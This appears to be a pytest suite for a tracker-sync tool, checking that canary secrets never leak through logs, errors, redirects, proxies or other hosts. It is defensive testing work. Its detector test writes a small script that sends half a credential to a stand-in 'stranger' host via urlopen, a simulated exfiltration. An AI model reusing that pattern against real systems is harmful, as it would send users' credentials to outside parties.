"""No secret is found anywhere after a run, however it went: each slot of each has a canary of its own."""

import fcntl
import json
import os
import resource
import signal
from collections.abc import Iterator
from pathlib import Path
from ssl import PROTOCOL_TLS_SERVER, SSLContext
from threading import Timer

import pytest
import trustme
from canary.birds import halves
from canary.suite import kept
from canary.world import CANARIES, TOKENS, Fault, Host, World, shows, told, until, world
from simulator.server import running

from tracker_sync.demo.exchange import Answer, Request


@pytest.fixture
def there(tmp_path: Path) -> Iterator[World]:
    with world(tmp_path / "searched", tmp_path / "kept") as made:
        yield made
        assert made.leaks() == set()


# --- With nothing wrong


def test_of_runs_with_nothing_wrong_nothing_is_left(there: World) -> None:
    there.run("sync", "--full", "--log-format", "json")
    first = there.jira.received[0], there.web.received[0]
    assert [r.headers["authorization"][:6] for r in first] == ["Basic ", "token "]
    assert [r.path for r in there.check.received] == [f"/{CANARIES['ping']}/start", f"/{CANARIES['ping']}"]
    assert there.watch.ours, "no command line of ours was looked at"
    there.write("log.jsonl", there.run("log", "export").out)
    assert '"hmac-sha256"' in there.write("head.json", there.run("log", "checkpoint").out).read_text()
    there.run("report", "--format", "html", "--output", "report.html")
    there.run("check", "--annotate")
    there.run("doctor", "--full", "--format", "json")
    left = {p.name for p in there.folder.iterdir()}
    assert {"tracker-sync.db", "tracker-sync.db.seal", "metrics.prom", "report.html"} <= left


@pytest.mark.slow
@pytest.mark.parametrize("place", ["own", "common", "own file", "common file", "without a user"])
def test_nor_wherever_the_tokens_come_from(there: World, place: str) -> None:
    there.more = dict.fromkeys(TOKENS, "")
    own = ("TRACKER_SYNC_ACME_TOKEN", "jira"), ("TRACKER_SYNC_WEB_TOKEN", "github")
    common = ("JIRA_TOKEN", "jira"), ("GITHUB_TOKEN", "github")
    for variable, name in common if place.startswith("common") else own:
        if place.endswith("file"):
            there.more[f"{variable}_FILE"] = str(there.keep(f"token of {name}", f"{CANARIES[name]}\n"))
        else:
            there.more[variable] = CANARIES[name]
    if place == "without a user":
        there.more["TRACKER_SYNC_ACME_USER"] = ""
        there.jira.face.account = None
    there.run("sync")
    for command in ("status", "items", "report", "doctor", "check"):
        there.run(command)
    there.both(told(401))
    there.run("sync", code=3)
    there.run("doctor", code=3)


# --- With trackers that show whatever they were told


def in_json(request: Request) -> Answer:
    """An answer that is no tracker's."""
    return Answer(200, {"headers": dict(request.headers), "issues": shows(request)})


def in_graphql(request: Request) -> Answer | None:
    """GraphQL's kind of refusal."""
    if not request.path.endswith("graphql"):
        return None
    return Answer(200, {"errors": [{"type": "FORBIDDEN", "message": shows(request)}]})


def broken(request: Request) -> Answer:
    """JSON that breaks off."""
    return Answer(200, json.dumps({"issues": [dict(request.headers)]}).encode()[:-3])


def moved(request: Request) -> Answer:
    """To another path of this host, which tells it."""
    told = request.headers.get("authorization", "").replace(" ", "%20")
    return (
        Answer(404, {})
        if request.path.startswith("/else")
        else Answer(301, {}, {"Location": f"/else/{told}"})
    )


REFUSALS: dict[str, tuple[Fault, int]] = {
    "400": (told(400), 4),
    "401": (told(401), 3),
    "403": (told(403), 3),
    "404": (told(404), 3),
    "410": (told(410), 3),
    "429 for a day": (told(429, **{"Retry-After": "86400"}), 4),
    "500": (told(500), 4),
    "JSON": (in_json, 4),
    "GraphQL": (in_graphql, 4),
    "broken JSON": (broken, 4),
    "moved": (moved, 3),
}


@pytest.mark.parametrize("name", ["403", "JSON", "moved"])
def test_a_tracker_that_shows_what_it_got_gets_it_nowhere(there: World, name: str) -> None:
    fault, code = REFUSALS[name]
    there.both(fault)
    done = there.run("sync", code=code)
    assert there.jira.received
    assert there.web.received
    assert ("***" in done.err) == (name != "JSON"), "what it shows is in the message, or this shows nothing"


@pytest.mark.slow
@pytest.mark.parametrize("name", REFUSALS)
def test_nor_does_it_with_any_other_command(there: World, name: str) -> None:
    there.run("sync")
    fault, _ = REFUSALS[name]
    there.both(fault)
    there.run("sync", "--full", "--log-format", "json", code=None)
    there.run("sync", "--item", "acme:PAY-1", code=None)
    there.run("doctor", code=None)
    there.run("check", "--annotate", code=None)
    at = {
        "jira": ["--jira", there.urls["jira"]],
        "web": ["--github", "acme/web", "--github-url", there.urls["web"]],
    }
    for kind, where in at.items():
        there.run("init", *where, "--allow-http", "--dir", f"made for {kind}", code=None)
    for args in (["status", "--format", "json"], ["status"], ["report"], ["log", "export"]):
        there.run(*args)


def test_nor_does_one_that_shows_it_within_an_item(there: World) -> None:
    def within(host: Host) -> Fault:
        def fault(request: Request) -> Answer:
            found = host.face.answer(request)
            text = json.dumps(found.body).replace(
                "Export as", f"Export {request.headers['authorization']} as"
            )
            return Answer(found.status, json.loads(text), found.headers)

        return fault

    there.jira.fault, there.web.fault = within(there.jira), within(there.web)
    there.run("sync")
    shown = there.run("items").out
    assert "Export Basic *** as PDF" in shown
    assert "Export token *** as PDF" in shown


# --- Other hosts


@pytest.mark.parametrize("status", [pytest.param(301, marks=pytest.mark.slow), 302, *(
    pytest.param(n, marks=pytest.mark.slow) for n in (303, 307, 308))])  # fmt: skip
def test_nobody_else_gets_anything(there: World, status: int) -> None:
    def away(request: Request) -> Answer:
        return Answer(status, {}, {"Location": f"{there.urls['stranger']}{request.path}?x=1"})

    there.both(away)
    there.check.fault = away
    there.run("sync", code=3 if status != 303 else None)
    there.run("doctor", code=3 if status != 303 else None)
    there.run("init", "--jira", there.urls["jira"], "--allow-http", "--dir", "made", code=3)
    assert there.stranger.received == []


def test_no_next_page_is_asked_of_another_host(there: World) -> None:
    def linked(request: Request) -> Answer:
        found = there.web.face.answer(request)
        link = f'<{there.urls["stranger"]}/{request.headers["authorization"].split()[1]}>; rel="next"'
        return Answer(found.status, found.body, found.headers | {"Link": link})

    there.web.fault = linked
    done = there.run("sync", "web", code=3)
    assert "/***: it points to another host" in done.err
    assert there.stranger.received == []


def test_what_netrc_has_for_a_host_is_not_sent(there: World) -> None:
    """`requests` would, where there is no token, and after each redirect."""

    def away(request: Request) -> Answer | None:
        to = {"Location": f"{request.path}/moved"}
        return None if request.path.endswith("/moved") else Answer(302, {}, to)

    there.more = dict.fromkeys(TOKENS, "")
    there.both(away)
    there.check.fault = away
    there.run("sync", code=None)
    for host in (there.jira, there.web, there.check):
        assert any(r.path.endswith("/moved") for r in host.received)
        assert not any("authorization" in r.headers for r in host.received)


# --- The proxy


class Proxy:
    """Takes nobody, and shows what it got."""

    def answer(self, request: Request) -> Answer:
        text = shows(request)
        return Answer(407, {"message": text, "errorMessages": [text]}, {"Proxy-Authenticate": text})


def test_a_proxy_gets_its_own_secret_and_shows_it_nowhere(there: World) -> None:
    readable = {
        "authorization": {"jira", "github"},
        "path": {"ping"},
    }  # to whoever is in between, without TLS
    proxy = Host(Proxy(), **readable, **{"proxy-authorization": {"proxy"}})
    with running(proxy) as at:
        there.through(at.url.replace("://", f"://somebody:{CANARIES['proxy']}@"))
        done = there.run("sync", code=4)
        assert "'proxy-authorization': 'Basic ***'" in done.err
    assert proxy.received
    assert [*proxy.caught()] == []


@pytest.mark.slow
def test_one_that_is_to_pass_on_what_it_cannot_read_does_not_get_more(there: World) -> None:
    proxy = Host(Proxy(), **{"proxy-authorization": {"proxy"}})
    with running(proxy) as at:
        there.through(at.url.replace("://", f"://somebody:{CANARIES['proxy']}@"))
        there.more["TRACKER_SYNC_PING_URL"] = ""
        there.configure(jira="https://jira.acme.example")
        there.run("sync", "acme", code=4)
    assert {r.method for r in proxy.received} == {"CONNECT"}
    assert [*proxy.caught()] == []


@pytest.mark.slow
@pytest.mark.parametrize(
    "url",
    ["http://some:{}@127.0.0.1:port", "http://so me:{}@[", "foo://some:{}@127.0.0.1:9",
     "socks5://some:{}@127.0.0.1:9"],
)  # fmt: skip
def test_the_address_of_a_proxy_that_is_none_is_not_shown(there: World, url: str) -> None:
    there.through(url.format(CANARIES["proxy"]))
    for args in (["sync"], ["doctor"], ["daemon", "--interval", "oops"]):
        assert there.run(*args, code=None).code in (2, 4), "no bug of ours"


@pytest.mark.slow
def test_a_certificate_that_does_not_hold_gets_nothing(there: World) -> None:
    context = SSLContext(PROTOCOL_TLS_SERVER)
    trustme.CA().issue_cert("127.0.0.1").configure_cert(context)
    with running(there.jira, tls=context) as jira, running(there.web, tls=context) as web:
        there.configure(jira=jira.url, web=web.url)
        there.run("sync", code=4)
    assert there.jira.received == there.web.received == []


# --- Bugs of ours, and the machine

CRASH = """\
import requests.adapters
def send(self, request, **more):
    held = dict(request.headers), request.headers.get("Authorization")
    raise RuntimeError("planted")
requests.adapters.HTTPAdapter.send = send
from tracker_sync.cli import main
main()
"""


@pytest.mark.parametrize("args", [["sync"], pytest.param(["doctor"], marks=pytest.mark.slow)])
def test_a_bug_of_ours_shows_its_place_and_no_value(there: World, args: list[str]) -> None:
    done = there.run(*args, code=1, program=[str(there.write("crash.py", CRASH))])
    assert 'crash.py", line 4, in send' in done.err
    assert done.err.endswith("RuntimeError: planted\n")


def test_a_disk_that_is_full(there: World) -> None:
    def small() -> None:
        signal.signal(signal.SIGXFSZ, signal.SIG_IGN)
        resource.setrlimit(resource.RLIMIT_FSIZE, (20_000, 20_000))

    there.run("sync", code=6, preexec_fn=small)


@pytest.mark.slow
def test_a_log_that_another_run_holds_or_that_is_none(there: World) -> None:
    there.run("sync")
    fd = os.open(f"{there.folder}/tracker-sync.db.lock", os.O_RDWR | os.O_CREAT)
    fcntl.flock(fd, fcntl.LOCK_EX)
    there.run("sync", code=75)
    os.close(fd)
    (there.folder / "tracker-sync.db").write_bytes(b"no log" * 1000)
    for args in (["sync"], ["status"], ["log", "verify"], ["doctor"]):
        there.run(*args, code=6)


@pytest.mark.parametrize(
    ("by", "code"),
    [(signal.SIGINT, 130), *(
        pytest.param(*each, marks=pytest.mark.slow) for each in ((signal.SIGTERM, 0), (signal.SIGKILL, -9))
    )],
)  # fmt: skip
def test_a_run_that_is_ended_midway(there: World, by: signal.Signals, code: int) -> None:
    over = list[int]()

    def silent(request: Request) -> None:
        until(lambda: over)

    there.web.fault = silent
    process = there.start("sync")
    until(lambda: there.web.received)
    process.send_signal(by)
    Timer(0.5, over.append, [1]).start()
    done = there.ended(process)
    assert done.code == code, done


# --- What looks for them


def test_a_canary_is_caught_wherever_it_is(tmp_path: Path) -> None:
    with world(tmp_path / "searched", tmp_path / "kept") as there:
        assert there.leaks() == set()
        kept(there.folder)
        there.write("half.bin", f"\0{halves(CANARIES['jira'])[0]}\0{CANARIES['github'].encode().hex()}")
        there.said.append(("stdout", f"401 for {CANARIES['proxy']}".encode()))
        leak = "import sys, time; time.sleep(0.5)"
        there.run(CANARIES["ping"], program=["-c", leak])
        send = f"import urllib.request as u; u.urlopen('{{}}?q={halves(CANARIES['netrc'])[1]}')"
        there.write("send.py", send.format(there.urls["stranger"]))
        there.run(program=["send.py"])
        caught = there.leaks()
    assert {
        ("jira", "half.bin"),
        ("github", "half.bin"),
        ("proxy", "stdout"),
        ("ping", "a command line"),
    } <= caught
    assert any(name == "netrc" and where.startswith("at stranger: query") for name, where in caught)
